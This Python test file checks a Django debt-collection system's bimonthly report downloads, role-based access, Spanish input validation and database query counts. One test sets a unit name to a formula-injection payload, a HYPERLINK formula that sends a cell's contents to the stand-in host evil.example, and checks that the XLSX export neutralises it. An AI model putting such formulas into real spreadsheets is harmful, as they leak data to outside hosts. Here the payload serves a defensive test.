"""The bimonthly report per unit, the employer-facing selectors and their query counts."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from coactiva import selectors, services
from coactiva.forms import bimestre_actual
from coactiva.models import JuicioCoactivo
from core import roles
from tests.coactiva.test_levantamiento import firmar_todo, pagar_todo
from tests.consultas import consultas_por_ruta
from tests.factories import JuicioCoactivoFactory, staff

pytestmark = pytest.mark.django_db


def test_report_counts_processes_money_and_measures_of_the_period(
    client: Client, django_capture_on_commit_callbacks
) -> None:
    pagado = JuicioCoactivoFactory(con_medidas=True, n_titulos=1)
    JuicioCoactivoFactory(con_medidas=True, n_titulos=2)
    with django_capture_on_commit_callbacks(execute=True):
        pago = pagar_todo(pagado.titulos.get())
    firmar_todo(pagado)  # the measures are lifted when the Director signs the oficios
    anio, bimestre = bimestre_actual()
    client.force_login(staff(roles.JEFE_UNIDAD, "17-coactiva"))
    respuesta = client.get(f"/coactiva/reportes/?anio={anio}&bimestre={bimestre}&formato=csv")
    filas = list(csv.reader(io.StringIO(b"".join(respuesta.streaming_content).decode("utf-8-sig"))))
    assert filas[0][0] == "Unidad" and len(filas) == 3  # header, the unit, total
    unidad = dict(zip(filas[0], filas[1], strict=True))
    assert unidad["Unidad"].endswith("Pichincha")
    assert unidad["Procesos iniciados"] == "2" and unidad["Procesos terminados"] == "1"
    assert unidad["Procesos abiertos al cierre"] == "1"
    assert Decimal(unidad["Monto recuperado (USD)"]) == pago.monto
    assert unidad["Medidas ordenadas"] == "6"
    assert unidad["Medidas levantadas"] == "3" and unidad["Medidas vigentes al cierre"] == "3"
    xlsx = client.get(f"/coactiva/reportes/?anio={anio}&bimestre={bimestre}&formato=xlsx")
    hoja = load_workbook(io.BytesIO(xlsx.content)).active
    assert hoja.cell(2, 3).value == 2
    pagina = client.get("/coactiva/reportes/")
    assert pagina.status_code == 200 and "Reporte bimestral de coactiva" in pagina.content.decode()
    # Other units' staff see only their unit, bad input is answered in Spanish, no 500.
    client.force_login(staff(roles.JEFE_UNIDAD, "09-coactiva"))
    html = client.get(f"/coactiva/reportes/?anio={anio}&bimestre={bimestre}").content.decode()
    assert "Guayas" in html and "Pichincha" not in html.split("<h1")[1]
    malo = client.get("/coactiva/reportes/?anio=abc&bimestre=9")
    assert malo.status_code == 200
    assert "Ingrese el año con cuatro cifras." in malo.content.decode()
    assert "Elija un bimestre de la lista." in malo.content.decode()
    client.force_login(staff(roles.ANALISTA_CARTERA, "17-cartera"))
    assert client.get("/coactiva/reportes/").status_code == 403


def test_the_xlsx_download_gives_formula_like_names_as_text(client: Client) -> None:
    """Through the real download: a name typed as a formula (here the unit's, which
    staff edit in the admin) arrives in the spreadsheet as text, not as a live
    HYPERLINK. Without the neutralisation openpyxl writes it as a formula."""
    from core.models import Unidad

    carnada = '=HYPERLINK("http://evil.example/?"&B2,"Ver detalle")'
    Unidad.objects.filter(codigo="17-coactiva").update(nombre=carnada)
    anio, bimestre = bimestre_actual()
    client.force_login(staff(roles.JEFE_UNIDAD, "17-coactiva"))
    xlsx = client.get(f"/coactiva/reportes/?anio={anio}&bimestre={bimestre}&formato=xlsx")
    assert xlsx.status_code == 200
    celda = load_workbook(io.BytesIO(xlsx.content)).active["A2"]
    assert celda.value == carnada
    assert celda.data_type == "s" and celda.quotePrefix


def test_employer_selectors_use_a_fixed_number_of_queries(django_assert_max_num_queries) -> None:
    primero = JuicioCoactivoFactory(con_medidas=True, n_titulos=2)
    empleador = primero.empleador
    for _ in range(3):
        JuicioCoactivoFactory(empleador=empleador, con_medidas=True, n_titulos=1)
    with django_assert_max_num_queries(5):
        precheck = selectors.levantamiento_precheck(empleador=empleador)
    with django_assert_max_num_queries(5):
        procesos = selectors.procesos_de_empleador(empleador=empleador)
    assert len(precheck) == 4 and not any(p.elegible for p in precheck)
    assert all(len(p.medidas) == 3 for p in precheck)
    assert procesos[-1].numero == primero.numero  # newest first
    assert procesos[-1].saldo > 0 and procesos[-1].abierto_el == timezone.localdate()
    assert {m.entidad for m in procesos[0].medidas} == {
        "Banco del Pichincha C.A.",
        "Registro de la Propiedad de Quito",
        "Agencia Nacional de Tránsito",
    }


def test_report_and_inventory_issue_a_fixed_number_of_queries(client: Client) -> None:
    """The bimonthly report (page and downloads) and the inventory of processes, at two
    data sizes, for the head of unit and for a Secretario-Abogado."""
    anio, bimestre = bimestre_actual()
    reporte = f"/coactiva/reportes/?anio={anio}&bimestre={bimestre}"
    rutas = [reporte, f"{reporte}&formato=csv", f"{reporte}&formato=xlsx"]
    inventario = [
        "/admin/coactiva/juiciocoactivo/",
        "/admin/coactiva/juiciocoactivo/?termino=vencido",
        "/admin/coactiva/medidacautelar/",
    ]
    jefe = staff(roles.JEFE_UNIDAD, "17-coactiva")
    primero = JuicioCoactivoFactory(con_medidas=True, n_titulos=2)

    def consultas() -> dict[tuple[str, str], int]:
        return consultas_por_ruta(
            client, [(jefe, rutas + inventario), (primero.secretario.usuario, inventario)]
        )

    pequeno = consultas()
    for i in range(5):
        juicio = JuicioCoactivoFactory(con_medidas=True, n_titulos=2, secretario=primero.secretario)
        pagar_todo(juicio.titulos.first())
        if i < 2:  # listed in the report's juicios de insolvencia
            services.juicio_transicion(
                juicio=juicio, a="insolvencia", motivo="Remate desierto; no hay otros bienes."
            )
    assert JuicioCoactivo.objects.filter(secretario=primero.secretario).count() == 6
    assert consultas() == pequeno
